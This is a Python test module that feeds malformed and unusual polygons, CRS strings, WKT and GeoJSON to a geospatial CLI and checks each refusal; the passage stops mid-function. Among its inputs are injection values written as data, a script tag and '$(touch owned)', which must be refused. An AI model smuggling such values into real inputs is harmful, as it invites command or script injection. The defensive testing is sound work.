"""Polygons, names and configs that are wrong or odd, each with what must become of it.

A case is a folder of files with a ``config.toml``. `judge` asks the command line to run it, up to the door of the
network, and compares what would have been run with shapes and values that are made here, by shapely and pyproj
alone.
"""

from __future__ import annotations

import contextlib
import io
import json
import math
import re
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from functools import reduce
from pathlib import Path
from typing import Any, Final
from unittest import mock

import numpy as np
import shapely
from pyproj import Transformer
from shapely import MultiPolygon, Polygon
from shapely.geometry.base import BaseGeometry

from s2async.cli import main
from s2async.config.model import Config
from s2async.engine import pipeline
from s2async.errors import LocalError
from s2async.models import Area

_CANARY: Final = "hunter2canary"
"""Stands where passwords stand: no line may show it."""
RIGHT, REFUSED, WRONG, TRACEBACK = "right", "refused", "wrong", "traceback"
EXACT: Final = 2e-9
"""Degrees by which a corner may be off: coordinates are kept to 1e-9."""


@dataclass(frozen=True, kw_only=True, slots=True)
class Case:
    """Files, and what must become of them."""

    kind: str
    label: str
    files: Mapping[str, str | bytes]
    """By name; a name that ends in a slash is a folder."""
    shapes: Mapping[str, BaseGeometry] = field(default_factory=dict)
    """Right are these areas by name, in lon/lat; none: the areas do not matter."""
    values: Mapping[str, object] = field(default_factory=dict)
    """Right are these settings, such as ``run.memory``."""
    says: str | None = None
    """Pattern that must be found in the line of the refusal; None: it must be right."""


@dataclass(frozen=True, kw_only=True, slots=True)
class Judged:
    """What became of a case."""

    outcome: str
    """One of `RIGHT`, `REFUSED`, `WRONG`, `TRACEBACK`."""
    why: str = ""
    """What is wrong, or the line of the refusal."""


class _Door:
    """Stands for the run: whoever comes so far would make requests."""

    def __init__(self) -> None:
        self.seen: list[tuple[Config, Sequence[Area]]] = []

    async def __call__(self, config: Config, areas: Sequence[Area], **_: object) -> None:
        self.seen.append((config, areas))
        raise LocalError("as far as the network")


def judge(case: Case, folder: Path) -> Judged:
    """Ask for a run in a folder of its own, and compare.

    Args:
        case: what is tried.
        folder: does not exist yet.
    """
    folder.mkdir(parents=True)
    for name, content in case.files.items():
        if name.endswith("/"):
            (folder / name).mkdir()
        else:
            (folder / name).write_bytes(content if isinstance(content, bytes) else content.encode())
    door, out, error = _Door(), io.StringIO(), io.StringIO()
    before = {path.name for path in folder.iterdir()}
    streams = contextlib.redirect_stdout(out), contextlib.redirect_stderr(error)
    with mock.patch.object(pipeline, "run", door), streams[0], streams[1]:
        try:
            main.main(["run", "--yes", str(folder / "config.toml")])
        except SystemExit as ended:
            code = ended.code
        except Exception as crash:  # noqa: BLE001 - this is what is counted
            return Judged(outcome=TRACEBACK, why=repr(crash))
    if {path.name for path in folder.iterdir()} != before:
        return Judged(outcome=WRONG, why="something was made before the first request")
    if door.seen:
        fault = _fault(case, *door.seen[0]) if case.says is None else "was not refused"
        return Judged(outcome=WRONG if fault else RIGHT, why=fault)
    return _refusal(case, code, out.getvalue(), error.getvalue())


def _refusal(case: Case, code: object, out: str, error: str) -> Judged:
    line = error.removesuffix("\n")
    for wrong, why in (
        ("Traceback" in error, "a traceback"),
        (code != 2, f"exit code {code}"),
        (out, "something on standard output"),
        (not line.startswith("s2async: "), "not a line of ours"),
        (not all(map(str.isprintable, line.split("\n"))), "not printable"),
        ("\n" in line and "areas cannot be used; " not in line, "not one line"),
        (max(map(len, line.split("\n"))) > 1000, "too long"),
        (_CANARY in line, "shows a password"),
        ("; " not in line, "does not say what to do"),
        (case.says is None, "was refused"),
        (not re.search(case.says or "", line), f"does not say {case.says!r}"),
    ):
        if wrong:
            return Judged(outcome=TRACEBACK if why == "a traceback" else WRONG, why=f"{why}: {error!r}")
    return Judged(outcome=REFUSED, why=line)


def _fault(case: Case, config: Config, areas: Sequence[Area]) -> str:
    """What differs from what the case says is right, in words; the empty string when nothing does."""
    for key, wanted in case.values.items():
        found = reduce(getattr, key.split("."), config)
        if type(found) is not type(wanted) or found != wanted:
            return f"{key} is {found!r} instead of {wanted!r}"
    got = {area.name: area for area in areas}
    if case.shapes and got.keys() != case.shapes.keys():
        return f"areas {sorted(got)}"
    for name, shape in case.shapes.items():
        if not same_shape(got[name].polygon, shape):
            return f"{name!r} became {got[name].polygon.wkt[:200]}"
    return _folder_fault(areas, config.output.folder)


def same_shape(one: BaseGeometry, other: BaseGeometry) -> bool:
    """Whether two polygons are one set of points but for a rim of `EXACT`, and have as many corners."""
    one, other = (shapely.remove_repeated_points(shape, EXACT) for shape in (one, other))
    corners = shapely.get_num_coordinates(one) == shapely.get_num_coordinates(other)
    return bool(corners and one.symmetric_difference(other).area <= EXACT * one.length)


def _folder_fault(areas: Sequence[Area], output: Path) -> str:
    """Whether each area has a folder of its own inside the output, on this system and on stricter ones."""
    folded = [area.folder.casefold() for area in areas]
    if len(set(folded)) != len(folded):
        return f"one folder for two areas: {folded}"
    for area in areas:
        path = (output / area.folder).resolve()
        device = re.match(r"(con|prn|aux|nul|com\d|lpt\d)(\.|$)", area.folder.casefold())
        forbidden = re.search(r'[\x00-\x1f<>:"/\\|?*]', area.folder) or area.folder[-1] in ". "
        if path.parent != output.resolve() or device or forbidden or len(area.folder.encode()) > 120:
            return f"an unsafe folder: {area.folder!r}"
    return ""


# ---- polygons ---------------------------------------------------------------------------------------------

Points = Sequence[Sequence[Any]]
NAN, INF = math.nan, math.inf
SQUARE: Final = [[13, 52], [14, 52], [14, 53], [13, 53], [13, 52]]


@dataclass(frozen=True, kw_only=True, slots=True)
class Drawn:
    """A geometry as its coordinates, so that any form can be written and any mistake made."""

    label: str
    parts: Sequence[Sequence[Points]]
    """Polygons of rings of points."""
    says: str | None = None
    """Of the refusal; None: right."""
    crs: str = ""
    multi: bool = False
    exact: bool = True
    """Whether it can be written as GeoJSON with the same meaning."""


def _square(x: float, y: float, side: float = 1.0) -> list[list[float]]:
    return [[x, y], [x + side, y], [x + side, y + side], [x, y + side], [x, y]]


def _star(x: float, y: float, count: int) -> list[list[float]]:
    """Many corners around a point; valid."""
    angles = np.linspace(0, 2 * math.pi, count, endpoint=False)
    far = 0.4 + 0.1 * np.sin(9 * angles)
    points = np.column_stack([x + far * np.cos(angles), y + far * np.sin(angles)]).round(9).tolist()
    return [*points, points[0]]


def _moved(ring: Points, crs: str) -> list[list[float]]:
    """A ring in lon/lat in another CRS, x or east first."""
    there = Transformer.from_crs("OGC:CRS84", crs, always_xy=True)
    return [list(there.transform(*point)) for point in ring]


CROSSES, TOUCHES, FEW = "crosses itself|parts overlap", "touches itself|crosses itself", "fewer than three"
LATLON, METRES, FAR, BEYOND = "looks like lat,lon", "looks like metres", "is beyond 180", "is beyond 90"
NUMBER = "not a finite number|cannot be read"

_PLAIN: Final[list[tuple[str, Sequence[Points], str | None]]] = [
    # label, rings of one polygon, what the refusal says (None: right)
    ("plain", [SQUARE], None),
    ("clockwise", [SQUARE[::-1]], None),
    ("starts elsewhere", [[*SQUARE[2:], *SQUARE[1:3]]], None),
    ("concave", [[[13, 52], [14, 52], [13.2, 52.2], [13, 53], [13, 52]]], None),
    ("fifteen digits", [[[13.12345678901234, 52.1], [13.2, 52.1], [13.2, 52.2], [13.12345678901234, 52.1]]], None),
    ("null island, minus zero", [[[-0.0, -0.0], [1, 0], [1, 1], [-0.0, -0.0]]], None),
    ("southern and western", [_square(-70.5, -33.5, 0.1)], None),
    # outlines that cross or touch themselves
    ("bowtie", [[[13, 52], [14, 53], [14, 52], [13, 53], [13, 52]]], CROSSES),
    ("bowtie of a metre", [[[13, 52], [13.00001, 52.00001], [13.00001, 52], [13, 52.00001], [13, 52]]], CROSSES),
    ("bowtie of a hair", [[[1, 2], [1 + 4e-9, 2 + 4e-9], [1 + 4e-9, 2], [1, 2 + 4e-9], [1, 2]]], CROSSES),
    ("bowtie at the equator", [[[-1, -1], [1, 1], [1, -1], [-1, 1], [-1, -1]]], CROSSES),
    ("bowtie with long arms", [[[0, 0], [10, 1], [10, 0], [0, 1], [0, 0]]], CROSSES),
    ("eight through a corner", [[[0, 0], [1, 1], [0, 2], [2, 2], [1, 1], [2, 0], [0, 0]]], TOUCHES),
    ("spike", [[[0, 0], [1, 0], [1, 1], [3, 1], [1, 1], [0, 1], [0, 0]]], TOUCHES),
    ("corridor of no width", [[[0, 0], [1, 0], [1, 1], [2, 1], [2, 2], [2, 1], [1, 1], [0, 1], [0, 0]]], TOUCHES),
    ("twice around", [[*_square(0, 0), *_square(0, 0)[1:]]], TOUCHES),
    ("spiral over itself", [[[0, 0], [4, 0], [4, 4], [1, 4], [1, -1], [0, -1], [0, 0]]], CROSSES),
    ("pentagram", [[[0, 3], [2, -3], [-3, 1], [3, 1], [-2, -3], [0, 3]]], CROSSES),
    ("touches its own edge", [[[0, 0], [4, 0], [4, 4], [2, 0], [0, 4], [0, 0]]], TOUCHES),
    # latitude first
    ("Sydney, lat first", [[[-33.9, 151.2], [-33.8, 151.2], [-33.8, 151.3], [-33.9, 151.2]]], LATLON),
    ("Tokyo, lat first", [[[35.6, 139.7], [35.7, 139.7], [35.7, 139.8], [35.6, 139.7]]], LATLON),
    ("Los Angeles, lat first", [[[34, -118.3], [34.1, -118.3], [34.1, -118.2], [34, -118.3]]], LATLON),
    ("Anchorage, lat first", [[[61.2, -149.9], [61.3, -149.9], [61.3, -149.8], [61.2, -149.9]]], LATLON),
    ("Fiji, lat first", [[[-17.8, 178], [-17.7, 178], [-17.7, 178.1], [-17.8, 178]]], LATLON),
    ("Berlin, lat first: a place in Arabia", [[[52.5, 13.4], [52.6, 13.4], [52.6, 13.5], [52.5, 13.4]]], None),
    ("one corner lat first", [[[103, 1.2], [104, 1.2], [1.2, 104], [103, 1.2]]], f"{BEYOND}|lat,lon"),
    # metres as degrees, and other numbers that are too large
    ("UTM as degrees", [_square(389_000, 5_819_000, 100)], METRES),
    ("web mercator as degrees", [_square(1_490_000, 6_890_000, 100)], METRES),
    ("negative metres", [_square(-8_000_000, -4_000_000, 100)], METRES),
    ("small metres", [_square(500, 400, 10)], METRES),
    ("feet", [_square(980_000, 190_000, 1000)], METRES),
    ("microdegrees", [_square(13_400_000, 52_500_000, 1000)], METRES),
    ("1e300", [[[0, 0], [1e300, 0], [1e300, 1e300], [0, 0]]], METRES),
    ("largest double", [[[0, 0], [1.7976931348623157e308, 0], [0, 1], [0, 0]]], METRES),
    ("360 and more", [_square(365, 10)], METRES),
    # not a number
    ("nan for x", [[[NAN, 52], [14, 52], [14, 53], [NAN, 52]]], f"{NUMBER}|not closed"),
    ("nan for y", [[[13, 52], [14, NAN], [14, 53], [13, 52]]], NUMBER),
    ("nan only", [[[NAN, NAN]] * 4], f"{NUMBER}|not closed"),
    ("inf", [[[13, 52], [INF, 52], [14, 53], [13, 52]]], NUMBER),
    ("-inf", [[[13, 52], [14, -INF], [14, 53], [13, 52]]], NUMBER),
    ("inf and nan", [[[13, 52], [INF, NAN], [14, 53], [13, 52]]], NUMBER),
    ("nan in a hole", [SQUARE, [[13.2, 52.2], [NAN, 52.2], [13.4, 52.4], [13.2, 52.2]]], NUMBER),
    ("nan height", [[[13, 52, NAN], [14, 52, NAN], [14, 53, NAN], [13, 52, NAN]]], None),
    # rings with too little, or not closed
    ("not closed", [SQUARE[:-1]], "not closed"),
    ("closed by a hair", [[*SQUARE[:-1], [13, 52.0000001]]], "not closed"),
    ("hole not closed", [SQUARE, [[13.2, 52.2], [13.4, 52.2], [13.4, 52.4]]], "not closed|fewer than three"),
    ("one point", [[[13, 52]]], f"{FEW}|not closed|cannot be read"),
    ("two points", [[[13, 52], [14, 53]]], f"{FEW}|not closed|cannot be read"),
    ("two points and back", [[[13, 52], [14, 53], [13, 52]]], FEW),
    ("one point four times", [[[13, 52]] * 4], FEW),
    ("two points by turns", [[[13, 52], [14, 53], [13, 52], [14, 53], [13, 52]]], f"{FEW}|{TOUCHES}"),
    ("hole of one point", [SQUARE, [[13.5, 52.5]] * 4], FEW),
    # next to nothing
    ("points in a row", [[[13, 52], [13.5, 52.5], [14, 53], [13, 52]]], f"{FEW}|{TOUCHES}"),
    ("sliver of no width", [[[13, 52], [14, 52], [13.5, 52], [13, 52]]], f"{FEW}|{TOUCHES}"),
    ("thinner than a nanodegree", [[[13, 52], [14, 52], [14, 52 + 1e-11], [13, 52]]], f"{FEW}|{TOUCHES}"),
    ("a metre wide", [[[13, 52], [13.1, 52], [13.1, 52.00001], [13, 52.00001], [13, 52]]], None),
    ("smaller than a pixel", [_square(13, 52, 1e-5)], None),
    ("a millimetre", [_square(13, 52, 1e-8)], None),
    # points twice, digits beyond what is kept
    ("each point twice", [[point for point in SQUARE for _ in (1, 2)]], None),
    ("first point thrice", [[SQUARE[0], SQUARE[0], *SQUARE]], None),
    ("last point thrice", [[*SQUARE, SQUARE[0], SQUARE[0]]], None),
    ("points apart by an atom", [[[13, 52], [14, 52], [14, 52 + 1e-13], [14, 53], [13, 52]]], None),
    ("corner on an edge", [[[13, 52], [13.5, 52], [14, 52], [14, 53], [13, 52]]], None),
    # holes
    ("hole", [SQUARE, _square(13.4, 52.4, 0.2)], None),
    ("two holes", [SQUARE, _square(13.1, 52.1, 0.2), _square(13.6, 52.6, 0.2)], None),
    ("hole touches the outline in a point", [SQUARE, [[13, 52.5], [13.5, 52.4], [13.5, 52.6], [13, 52.5]]], None),
    ("holes touch in a point", [SQUARE, _square(13.2, 52.2, 0.2), _square(13.4, 52.4, 0.2)], None),
    ("hole outside", [SQUARE, _square(20, 20)], "hole lies outside"),
    ("hole half outside", [SQUARE, _square(13.5, 52.4, 0.8)], CROSSES),
    ("hole along an edge", [SQUARE, [[13, 52.2], [13.5, 52.2], [13.5, 52.6], [13, 52.6], [13, 52.2]]], CROSSES),
    ("hole as large as the outline", [SQUARE, SQUARE], f"{CROSSES}|not valid"),
    ("hole around the outline", [SQUARE, _square(12, 51, 3)], f"{CROSSES}|hole lies outside|not valid"),
    ("hole in a hole", [SQUARE, _square(13.2, 52.2, 0.6), _square(13.4, 52.4, 0.2)], "not valid|hole"),
    ("holes overlap", [SQUARE, _square(13.2, 52.2, 0.4), _square(13.4, 52.4, 0.4)], CROSSES),
    ("one hole twice", [SQUARE, _square(13.2, 52.2, 0.4), _square(13.2, 52.2, 0.4)], f"{CROSSES}|not valid"),
    ("hole is a bowtie", [SQUARE, [[13.2, 52.2], [13.4, 52.4], [13.4, 52.2], [13.2, 52.4], [13.2, 52.2]]],
     CROSSES),
    ("hole cuts it in two", [[[0, 0], [2, 0], [2, 2], [0, 2], [0, 0]], [[1, 0], [2, 1], [1, 2], [0, 1], [1, 0]]],
     "not valid|touches|interior"),
    # antimeridian and poles
    ("across the antimeridian", [[[179.9, 1], [-179.9, 1], [-179.9, 2], [179.9, 2], [179.9, 1]]],
     "split it at 180"),
    ("beyond 180", [[[179.9, 1], [180.1, 1], [180.1, 2], [179.9, 1]]], FAR),
    ("beyond -180", [[[-180.1, 1], [-179.9, 1], [-179.9, 2], [-180.1, 1]]], FAR),
    ("longitudes from 0 to 360", [_square(190, 10)], FAR),
    ("ends at 180", [_square(179, 1)], None),
    ("begins at -180", [_square(-180, 1)], None),
    ("the world", [[[-180, -60], [180, -60], [180, 60], [-180, 60], [-180, -60]]], "spans 360"),
    ("half the world", [[[-90, -60], [90, -60], [90, 60], [-90, 60], [-90, -60]]], None),
    ("to 84 N", [_square(13, 83)], None),
    ("beyond 84 N", [[[13, 83], [14, 83], [14, 84.1], [13, 83]]], "end at 84 N"),
    ("north pole", [[[-120, 83], [0, 83], [50, 83], [0, 90], [-120, 83]]], "end at 84 N"),
    ("to 80 S", [_square(13, -80)], None),
    ("beyond 80 S", [_square(13, -80.1)], "80 S"),
    ("beyond the pole", [[[13, 52], [14, 52], [14, 95], [13, 52]]], BEYOND),
    # many points, heights
    ("a hundred thousand points", [_star(13, 52, 100_000)], None),
    ("a hundred thousand, one astray", [[*_star(13, 52, 100_000)[:-1], [13, 52.9], _star(13, 52, 8)[0]]], CROSSES),
    ("heights", [[[*point, 30] for point in SQUARE]], None),
    ("thousand holes", [_square(10, 45, 4), *(_square(10.05 + i % 40 / 10.5, 45.05 + i // 40 / 7, 0.02)
                                              for i in range(1000))], None),
]  # fmt: skip

_MULTI: Final[list[tuple[str, Sequence[Sequence[Points]], str | None]]] = [
    ("two parts", [[SQUARE], [_square(15, 52)]], None),
    ("one part", [[SQUARE]], None),
    ("thousand parts", [[_square(10 + i % 50 / 10, 45 + i // 50 / 10, 0.05)] for i in range(1000)], None),
    ("parts touch in a point", [[SQUARE], [_square(14, 53)]], None),
    ("both sides of the antimeridian", [[_square(179, 1)], [_square(-180, 1)]], None),
    ("an island in a lake", [[SQUARE, _square(13.2, 52.2, 0.6)], [_square(13.4, 52.4, 0.2)]], None),
    ("parts touch along an edge", [[SQUARE], [_square(14, 52)]], CROSSES),
    ("parts overlap", [[SQUARE], [_square(13.5, 52.5)]], CROSSES),
    ("one part twice", [[SQUARE], [SQUARE]], f"{CROSSES}|not valid"),
    ("one part inside another", [[SQUARE], [_square(13.4, 52.4, 0.2)]], "not valid|overlap"),
    ("one part is a bowtie", [[SQUARE], [[[20, 52], [21, 53], [21, 52], [20, 53], [20, 52]]]], CROSSES),
    ("one part in metres", [[SQUARE], [_square(389_000, 5_819_000, 100)]], METRES),
    ("one part not closed", [[SQUARE], [_square(15, 52)[:-1]]], "not closed"),
    ("one part of one point", [[SQUARE], [[[15, 52]] * 4]], FEW),
    ("one part around the world", [[SQUARE], [[[-179, 1], [179, 1], [179, 2], [-179, 1]]]], "spans 358"),
]  # fmt: skip

_CRS: Final = ("EPSG:25833", "EPSG:32633", "EPSG:3857", "EPSG:3035", "EPSG:31468", "EPSG:4258", "EPSG:4326",
               "EPSG:2180", "EPSG:5243", "OGC:CRS84", "ESRI:54009")  # fmt: skip
"""Some of them have north or latitude first by their own definition; here x is always first."""


def _drawings() -> Iterator[Drawn]:
    for label, rings, says in _PLAIN:
        yield Drawn(label=label, parts=[rings], says=says, exact="nan height" not in label)
    for label, parts, says in _MULTI:
        yield Drawn(label=label, parts=parts, says=says, multi=True)
    small = _square(13.4, 52.4, 0.01)
    for crs in _CRS:
        yield Drawn(label=f"in {crs}", parts=[[_moved(small, crs)]], crs=crs, exact=False)
    for crs, says in (
        ("EPSG:99999", "is not known"),
        ("EPSG:5773", "not a geographic or projected CRS"),
        ("EPSG:4978", "not a geographic or projected CRS"),
        ("25833", "not of the right form"),
        ("EPSG:", "not of the right form"),
        ("+proj=utm +zone=33", "not of the right form"),
        ("", "not of the right form"),
    ):
        yield Drawn(label=f"in {crs!r}", parts=[[small]], crs=crs or " ", says=says, exact=False)
    there = [[y, x] for x, y in _moved(small, "EPSG:25833")]
    yield Drawn(label="north first", parts=[[there]], crs="EPSG:25833", says="outside the region", exact=False)
    far = [[[1e9, 1e9], [2e9, 1e9], [2e9, 2e9], [1e9, 1e9]]]
    yield Drawn(label="off the map", parts=[far], crs="EPSG:25833", says="outside the region", exact=False)


def _number(value: float) -> str:
    return repr(value) if isinstance(value, float) else str(value)


def _wkt(drawn: Drawn) -> str:
    def ring(points: Points) -> str:
        return f"({', '.join(' '.join(map(_number, point)) for point in points)})"

    parts = [f"({', '.join(map(ring, rings))})" for rings in drawn.parts]
    deep = " Z" if len(drawn.parts[0][0][0]) == 3 else ""
    return f"MULTIPOLYGON{deep} ({', '.join(parts)})" if drawn.multi else f"POLYGON{deep} {parts[0]}"


def _geojson(drawn: Drawn) -> dict[str, Any]:
    kind, coordinates = ("MultiPolygon", drawn.parts) if drawn.multi else ("Polygon", drawn.parts[0])
    return {"type": kind, "coordinates": coordinates}


def _shape(drawn: Drawn) -> BaseGeometry:
    """What a right one is in lon/lat, made by shapely and pyproj."""
    back = Transformer.from_crs(drawn.crs, "OGC:CRS84", always_xy=True) if drawn.crs else None

    def ring(points: Points) -> list[tuple[float, float]]:
        plain = [(float(point[0]), float(point[1])) for point in points]
        return [back.transform(*point) for point in plain] if back else plain

    parts = [Polygon(ring(shell), [ring(hole) for hole in holes]) for shell, *holes in drawn.parts]
    return MultiPolygon(parts) if len(parts) > 1 else parts[0]


def feature(geometry: object, name: object = "P") -> dict[str, Any]:
    """A GeoJSON feature."""
    return {"type": "Feature", "properties": {"name": name}, "geometry": geometry}


def collection(*features: object, **more: object) -> str:
    """A GeoJSON file."""
    return json.dumps({"type": "FeatureCollection", "features": features, **more})


def _in_config(wkt: str, crs: str = "") -> dict[str, str]:
    head = f'crs = "{crs.strip()}"\n' if crs else ""
    return {"config.toml": f"{head}[[areas]]\nname = \"P\"\nwkt = '''{wkt}'''\n"}


def _in_csv(wkt: str, crs: str = "") -> dict[str, str]:
    head = f'crs = "{crs.strip()}"\n' if crs else ""
    return {"config.toml": f'{head}areas = "a.csv"\n', "a.csv": f'name,wkt\nP,"{wkt}"\n'}


def _in_geojson(text: str) -> dict[str, str]:
    return {"config.toml": 'areas = "a.geojson"\n', "a.geojson": text}


P: Final = _wkt(Drawn(label="", parts=[[SQUARE]]))
_SQUARE_SHAPE: Final = Polygon(SQUARE)
_SMALL_SHAPE: Final = Polygon(_square(13.4, 52.4, 0.01))
_UTM: Final = _moved(_square(13.4, 52.4, 0.01), "EPSG:25833")
_UTM_WKT: Final = _wkt(Drawn(label="", parts=[[_UTM]]))
IS_A, READ, CURVES, EMPTY = "give a Polygon or MultiPolygon", "cannot be read", "curves cannot be used", "is empty"

_WKTS: Final[list[tuple[str, str, str | None]]] = [
    # label, WKT, what the refusal says (None: it is the square)
    ("small letters", P.lower(), None),
    ("blanks and line breaks", P.replace(",", " ,\n\t").replace("((", " ( \n ( "), None),
    ("exponents and signs", "POLYGON ((+1.3e1 5.2E+1, 14e0 52, 140e-1 53.0, 13 530E-1, 13 52))", None),
    ("Z", "POLYGON Z ((13 52 1, 14 52 2, 14 53 3, 13 53 4, 13 52 1))", None),
    ("Z without the letter", "POLYGON ((13 52 1, 14 52 2, 14 53 3, 13 53 4, 13 52 1))", None),
    ("M", "POLYGON M ((13 52 1, 14 52 2, 14 53 3, 13 53 4, 13 52 1))", None),
    ("ZM", "POLYGON ZM ((13 52 1 2, 14 52 1 2, 14 53 1 2, 13 53 1 2, 13 52 1 2))", None),
    ("multi Z", "MULTIPOLYGON Z (((13 52 1, 14 52 2, 14 53 3, 13 53 4, 13 52 1)))", None),
    ("heights that leave it open", "POLYGON Z ((13 52 1, 14 52 2, 14 53 3, 13 53 4, 13 52 9))", None),
    ("SRID=4326", f"SRID=4326;{P}", None),
    ("srid, blanks", f" srid = 4326 ; {P}", None),
    ("SRID of another CRS", f"SRID=25833;{P}", "SRID=25833, but"),
    ("unknown SRID", f"SRID=999999;{P}", "is not known"),
    ("SRID=0, which states none", f"SRID=0;{P}", None),
    ("SRID=-1", f"SRID=-1;{P}", READ),
    ("SRID without a number", f"SRID=;{P}", READ),
    ("SRID twice", f"SRID=4326;SRID=4326;{P}", READ),
    ("SRID of a hundred digits", f"SRID={'9' * 100};{P}", READ),
    ("empty text", " ", "is empty|cannot be read"),
    ("POLYGON EMPTY", "POLYGON EMPTY", EMPTY),
    ("MULTIPOLYGON EMPTY", "MULTIPOLYGON EMPTY", EMPTY),
    ("MULTIPOLYGON of nothing", "MULTIPOLYGON (EMPTY)", EMPTY),
    ("polygon of an empty ring", "POLYGON (EMPTY)", f"{EMPTY}|{READ}"),
    ("GEOMETRYCOLLECTION EMPTY", "GEOMETRYCOLLECTION EMPTY", EMPTY),
    ("a part that is empty", f"MULTIPOLYGON (EMPTY, {P.removeprefix('POLYGON ')})", None),
    ("point", "POINT (13 52)", IS_A),
    ("point empty", "POINT EMPTY", EMPTY),
    ("multipoint", "MULTIPOINT ((13 52), (14 53), (13 53))", IS_A),
    ("line", "LINESTRING (13 52, 14 53)", IS_A),
    ("closed line", "LINESTRING (13 52, 14 52, 14 53, 13 52)", IS_A),
    ("lines", "MULTILINESTRING ((13 52, 14 53), (13 53, 14 52))", IS_A),
    ("ring", "LINEARRING (13 52, 14 52, 14 53, 13 52)", IS_A),
    ("collection of a polygon", f"GEOMETRYCOLLECTION ({P})", IS_A),
    ("collection of many", f"GEOMETRYCOLLECTION ({P}, POINT (13 52))", IS_A),
    ("collection in a collection", f"GEOMETRYCOLLECTION (GEOMETRYCOLLECTION ({P}))", IS_A),
    ("circle", "CURVEPOLYGON (CIRCULARSTRING (0 0, 1 1, 2 0, 1 -1, 0 0))", CURVES),
    ("arc", "CIRCULARSTRING (0 0, 1 1, 2 0)", f"{CURVES}|{IS_A}"),
    ("compound curve", "COMPOUNDCURVE ((0 0, 1 1), CIRCULARSTRING (1 1, 2 0, 3 1))", f"{CURVES}|{IS_A}|{READ}"),
    (
        "multisurface",
        "MULTISURFACE (CURVEPOLYGON (CIRCULARSTRING (0 0, 1 1, 2 0, 1 -1, 0 0)))",
        f"{CURVES}|{READ}",
    ),
    ("multicurve", "MULTICURVE ((0 0, 1 1))", f"{CURVES}|{IS_A}|{READ}"),
    ("triangle", "TRIANGLE ((0 0, 1 0, 0 1, 0 0))", f"{READ}|{IS_A}"),
    ("TIN", "TIN (((0 0, 1 0, 0 1, 0 0)))", f"{READ}|{IS_A}"),
    ("polyhedral surface", "POLYHEDRALSURFACE (((0 0, 1 0, 0 1, 0 0)))", f"{READ}|{IS_A}"),
    ("comma for a point", "POLYGON ((13,4 52,5, 14 52, 14 53, 13,4 52,5))", READ),
    ("cut off", P[:-9], READ),
    ("one bracket too few", P[:-1], READ),
    ("text after it", f"{P} and more", READ),
    ("two of them", f"{P} {P}", READ),
    ("numbers only", "13 52, 14 52, 14 53", READ),
    ("one ordinate", "POLYGON ((13, 14, 15, 13))", READ),
    ("five ordinates", "POLYGON ((1 2 3 4 5, 2 2 3 4 5, 2 3 3 4 5, 1 2 3 4 5))", READ),
    ("hexadecimal", "POLYGON ((0x0d 0x34, 0xe 0x34, 0xe 53, 13 53, 0x0d 0x34))", None),
    ("degrees and minutes", "POLYGON ((13°24' 52°30', 14° 52°, 14° 53°, 13°24' 52°30'))", READ),
    ("WKB in hex", shapely.to_wkb(_SQUARE_SHAPE, hex=True), None),
    ("GeoJSON as WKT", json.dumps({"type": "Polygon", "coordinates": [SQUARE]}).replace('"', ""), READ),
    ("markup", "<script>alert(1)</script>", READ),
    ("shell", "$(touch owned)", READ),
    ("escape sequence", "POLYGON\u202e((13 52))", READ),
    ("10,000 brackets", "POLYGON " + "(" * 10_000, READ),
    ("10,000 collections", "GEOMETRYCOLLECTION (" * 10_000, READ),
    ("1e400", "POLYGON ((13 52, 1e400 52, 14 53, 13 52))", f"{NUMBER}|{METRES}"),
]

_JSONS: Final[list[tuple[str, str, str | dict[str, BaseGeometry]]]] = [
    # label, file, what the refusal says, or what is right
    ("bare geometry is named after its file", json.dumps({"type": "Polygon", "coordinates": [SQUARE]}),
     {"a": _SQUARE_SHAPE}),
    ("one feature", json.dumps(feature({"type": "Polygon", "coordinates": [SQUARE]})), {"P": _SQUARE_SHAPE}),
    ("a name for the CRS", collection(feature({"type": "Polygon", "coordinates": [_UTM]}),
     crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::25833"}}), {"P": _SMALL_SHAPE}),
    ("a CRS that nobody knows", collection(feature({"type": "Polygon", "coordinates": [SQUARE]}),
     crs={"type": "name", "properties": {"name": "EPSG:0"}}), "is not known"),
    ("a CRS of no kind", collection(feature({"type": "Polygon", "coordinates": [SQUARE]}), crs=[1]), "crs"),
    ("null geometry", collection(feature(None)), EMPTY),
    ("coordinates null", collection(feature({"type": "Polygon", "coordinates": None})), READ),
    ("no coordinates", collection(feature({"type": "Polygon"})), READ),
    ("coordinates empty", collection(feature({"type": "Polygon", "coordinates": []})), EMPTY),
    ("a ring empty", collection(feature({"type": "Polygon", "coordinates": [[]]})), f"{EMPTY}|{READ}|{FEW}"),
    ("one bracket too few", collection(feature({"type": "Polygon", "coordinates": SQUARE})), READ),
    ("one bracket too many", collection(feature({"type": "Polygon", "coordinates": [[SQUARE]]})), READ),
    ("numbers as text", collection(feature({"type": "Polygon", "coordinates": [[["13", "52"]] * 4]})), READ),
    ("null for a number", collection(feature({"type": "Polygon", "coordinates": [[[None, 52], *SQUARE]]})), READ),
    ("true for a number", collection(feature({"type": "Polygon", "coordinates": [[[True, 52], *SQUARE]]})), READ),
    ("a dictionary for a point", collection(feature({"type": "Polygon", "coordinates": [[{"x": 1}]]})), READ),
    ("a type of its own", collection(feature({"type": "Circle", "coordinates": [13, 52]})), READ),
    ("type in small letters", collection(feature({"type": "polygon", "coordinates": [SQUARE]})), READ),
    ("text as a geometry", collection(feature(P)), "the geometry is"),
    ("point", collection(feature({"type": "Point", "coordinates": [13, 52]})), IS_A),
    ("collection", collection(feature({"type": "GeometryCollection", "geometries": [
        {"type": "Polygon", "coordinates": [SQUARE]}]})), IS_A),
    ("no geometry member", collection({"type": "Feature", "properties": {"name": "P"}}), EMPTY),
    ("no feature", collection(), "there is no area"),
    ("features of another kind", collection(1, None, []), "not a GeoJSON Feature"),
    ("TopoJSON", '{"type": "Topology", "objects": {}}', "not GeoJSON"),
    ("a list", "[]", "not GeoJSON"),
    ("two polygons that are one", collection(feature({"type": "Polygon", "coordinates": [SQUARE]}),
     feature({"type": "Polygon", "coordinates": [SQUARE[::-1]]}, "Q")), {"P": _SQUARE_SHAPE, "Q": _SQUARE_SHAPE}),
    ("nested a thousand deep", collection(feature({"type": "Polygon", "coordinates": None})).replace(
        "null", "[" * 900 + "]" * 900), READ),
    ("1e400", collection(feature({"type": "Polygon", "coordinates": [SQUARE]})).replace("14", "1e400"), NUMBER),
    ("a number of 5000 digits", collection(feature({"type": "Polygon", "coordinates": [SQUARE]})).replace(
        "14", "1" * 5000), "not JSON|finite|metres|cannot be read"),
]  # fmt: skip


def polygons() -> Iterator[Case]:
    """Polygons in every form in which they can be given."""
    for drawn in _drawings():
